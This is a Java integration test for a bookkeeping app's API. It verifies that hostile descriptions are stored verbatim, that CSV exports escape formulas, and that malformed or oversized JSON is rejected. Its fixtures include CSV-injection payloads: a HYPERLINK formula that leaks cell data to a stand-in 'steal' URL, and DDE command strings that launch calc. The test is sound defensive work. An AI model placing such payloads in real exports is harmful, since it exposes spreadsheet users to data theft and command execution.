package ai.bookkeeper.security;

import ai.bookkeeper.platform.Keys;
import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import ai.bookkeeper.categorize.TransactionFacts;
import ai.bookkeeper.ledger.Account;
import ai.bookkeeper.ledger.JournalEntry;
import ai.bookkeeper.ledger.JournalLine;
import ai.bookkeeper.ledger.Ledger;
import ai.bookkeeper.ledger.EntrySource;
import ai.bookkeeper.ledger.NewEntry;
import ai.bookkeeper.review.Outcome;
import ai.bookkeeper.review.Proposals;
import ai.bookkeeper.review.ReviewQueue;
import ai.bookkeeper.shared.CurrencyCode;
import ai.bookkeeper.shared.Money;
import ai.bookkeeper.tenancy.ApiTokens;
import ai.bookkeeper.tenancy.BusinessType;
import ai.bookkeeper.tenancy.CompanyAccess;
import ai.bookkeeper.tenancy.Tenancy;
import ai.bookkeeper.testing.DatabaseIntegrationTest;
import ai.bookkeeper.testing.Fixtures;
import java.io.StringReader;
import java.io.StringWriter;
import java.time.LocalDate;
import java.util.List;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.web.servlet.MockMvc;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Hostile text through the HTTP API and the exports: stored verbatim, returned verbatim as JSON strings, written to
 * CSV so that no spreadsheet runs it as a formula; JSON with unknown or oversized fields is refused cleanly.
 */
@AutoConfigureMockMvc
class HostileRequestsIntegrationTest extends DatabaseIntegrationTest {

    static final String FORMULA = "=HYPERLINK(\"http://127.0.0.1/steal?d=\"&A1,\"Refund\")";
    static final List<String> HOSTILE = List.of(HostileFilesIntegrationTest.SQL_LOOKING,
            HostileFilesIntegrationTest.SCRIPT_LOOKING, FORMULA, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\u202eright-to-left override \ud83d\udcb8 \\u0041 \\\" ';--");

    @Autowired MockMvc mvc;
    @Autowired Tenancy tenancy;
    @Autowired Ledger ledger;
    @Autowired ApiTokens tokens;
    @Autowired Proposals proposals;
    @Autowired ReviewQueue review;
    @Autowired JdbcTemplate jdbc;

    final JsonMapper json = JsonMapper.builder().build();
    CompanyAccess owner;
    String bearer;
    String base;
    Account checking;
    Account supplies;

    @BeforeEach
    void company() {
        owner = Fixtures.company(tenancy, BusinessType.RETAIL);
        bearer = "Bearer " + tokens.create(owner.user().orElseThrow(), "security test").token();
        base = "/api/v1/companies/" + owner.companyId();
        checking = ledger.accountByCode(owner, "1000").orElseThrow();
        supplies = ledger.accounts(owner).stream().filter(a -> a.type().name().equals("EXPENSE")).findFirst().orElseThrow();
    }

    String entryJson(String description) {
        return json.writeValueAsString(java.util.Map.of("date", "2026-03-01", "description", description, "lines", List.of(
                java.util.Map.of("accountId", supplies.id().toString(), "side", "DEBIT", "amount", "1.00"),
                java.util.Map.of("accountId", checking.id().toString(), "side", "CREDIT", "amount", "1.00"))));
    }

    @Test
    void hostile_descriptions_are_stored_and_returned_verbatim_as_json_strings() throws Exception {
        for (String description : HOSTILE) {
            String body = mvc.perform(post(base + "/entries").header("Authorization", bearer)
                            .contentType(MediaType.APPLICATION_JSON).content(entryJson(description)))
                    .andExpect(status().isCreated())
                    .andReturn().getResponse().getContentAsString(java.nio.charset.StandardCharsets.UTF_8);
            JsonNode created = json.readTree(body);
            assertThat(created.get("description").asString()).isEqualTo(description);
            assertThat(jdbc.queryForObject("SELECT description FROM journal_entry WHERE company_id = ? AND id = ?",
                    String.class, Keys.bind(owner.companyId()), Keys.bindText(created.get("id").asString()))).isEqualTo(description);
            String fetched = mvc.perform(get(base + "/entries/" + created.get("id").asString()).header("Authorization", bearer))
                    .andExpect(status().isOk())
                    .andReturn().getResponse().getContentAsString(java.nio.charset.StandardCharsets.UTF_8);
            assertThat(json.readTree(fetched).get("description").asString()).isEqualTo(description);
        }
    }

    @Test
    void report_csv_exports_neutralize_formulas_and_keep_the_text() throws Exception {
        for (String description : List.of(FORMULA, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1")) {
            JournalEntry entry = ledger.propose(owner, new NewEntry(LocalDate.parse("2026-03-01"), description, null,
                    EntrySource.MANUAL, List.of(JournalLine.debit(supplies.id(), Money.of("1.00", CurrencyCode.USD)),
                            JournalLine.credit(checking.id(), Money.of("1.00", CurrencyCode.USD)))));
            ledger.approve(owner, entry.id(), entry.version());
        }
        String csv = mvc.perform(get(base + "/reports/general-ledger").header("Authorization", bearer)
                        .param("from", "2026-01-01").param("to", "2026-12-31").param("format", "csv"))
                .andExpect(status().isOk())
                .andReturn().getResponse().getContentAsString(java.nio.charset.StandardCharsets.UTF_8);
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv)).getRecords();
        List<String> descriptions = rows.stream().map(r -> r.get("description")).distinct().toList();
        assertThat(descriptions).containsExactlyInAnyOrder("Opening balance", "'" + FORMULA, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3",
                "'\t=1+1");
        for (CSVRecord row : rows) {
            for (String cell : row) {
                assertThat(cell).as("every cell of %s", row).doesNotStartWith("=").doesNotStartWith("@")
                        .doesNotStartWith("+");
            }
        }
    }

    @Test
    void the_feedback_csv_neutralizes_formulas_in_descriptions() throws Exception {
        TransactionFacts facts = new TransactionFacts(UUID.randomUUID().toString(), LocalDate.parse("2026-03-02"),
                Money.of("-12.00", CurrencyCode.USD), FORMULA, null, checking.id());
        proposals.proposeAll(owner, List.of(facts));
        for (ReviewQueue.Item item : review.queue(owner, null, null, 10, 0)) {
            review.approve(owner, item.entry().id(), item.entry().version());
        }
        assertThat(review.all(owner)).extracting(p -> p.outcome()).allMatch(o -> o == Outcome.APPROVED
                || o == Outcome.AUTO_APPROVED);
        StringWriter out = new StringWriter();
        review.writeFeedback(owner, out, true);
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(out.toString())).getRecords();
        assertThat(rows).extracting(r -> r.get("description")).containsExactly("'" + FORMULA);
    }

    @Test
    void an_unknown_json_field_is_refused_naming_it() throws Exception {
        String body = entryJson("ok").replaceFirst("\\{", "{\"isAdmin\":true,");
        mvc.perform(post(base + "/entries").header("Authorization", bearer).contentType(MediaType.APPLICATION_JSON)
                        .content(body))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.detail").value(org.hamcrest.Matchers.containsString("'isAdmin'")));
        assertThat(ledger.entries(owner, ai.bookkeeper.ledger.EntryFilter.all())).isEmpty();
    }

    @Test
    void a_json_body_over_one_megabyte_is_refused_with_413_before_it_is_parsed() throws Exception {
        String huge = entryJson("x".repeat(2 * 1024 * 1024));
        mvc.perform(post(base + "/entries").header("Authorization", bearer).contentType(MediaType.APPLICATION_JSON)
                        .content(huge))
                .andExpect(status().isContentTooLarge())
                .andExpect(jsonPath("$.code").value("request.too_large"))
                .andExpect(jsonPath("$.detail").value(org.hamcrest.Matchers.containsString("over the limit of 1048576")));
        assertThat(ledger.entries(owner, ai.bookkeeper.ledger.EntryFilter.all())).isEmpty();
    }

    @Test
    void huge_fields_under_the_body_limit_are_refused_with_a_4xx_naming_the_problem() throws Exception {
        // bean validation answers 422 (the project's status for a well-formed request with invalid values)
        mvc.perform(post(base + "/entries").header("Authorization", bearer).contentType(MediaType.APPLICATION_JSON)
                        .content(entryJson("x".repeat(900_000))))
                .andExpect(status().isUnprocessableContent())
                .andExpect(jsonPath("$.detail").value(org.hamcrest.Matchers.containsString("description")));
        String deep = "[".repeat(5_000) + "]".repeat(5_000);
        mvc.perform(post(base + "/entries").header("Authorization", bearer).contentType(MediaType.APPLICATION_JSON)
                        .content("{\"date\":\"2026-03-01\",\"description\":\"d\",\"lines\":" + deep + "}"))
                .andExpect(status().isBadRequest());
        String longNumber = "1" + "0".repeat(5_000);
        mvc.perform(post(base + "/entries").header("Authorization", bearer).contentType(MediaType.APPLICATION_JSON)
                        .content(entryJson("n").replace("\"1.00\"", longNumber)))
                .andExpect(status().isBadRequest());
        assertThat(ledger.entries(owner, ai.bookkeeper.ledger.EntryFilter.all())).isEmpty();
    }
}
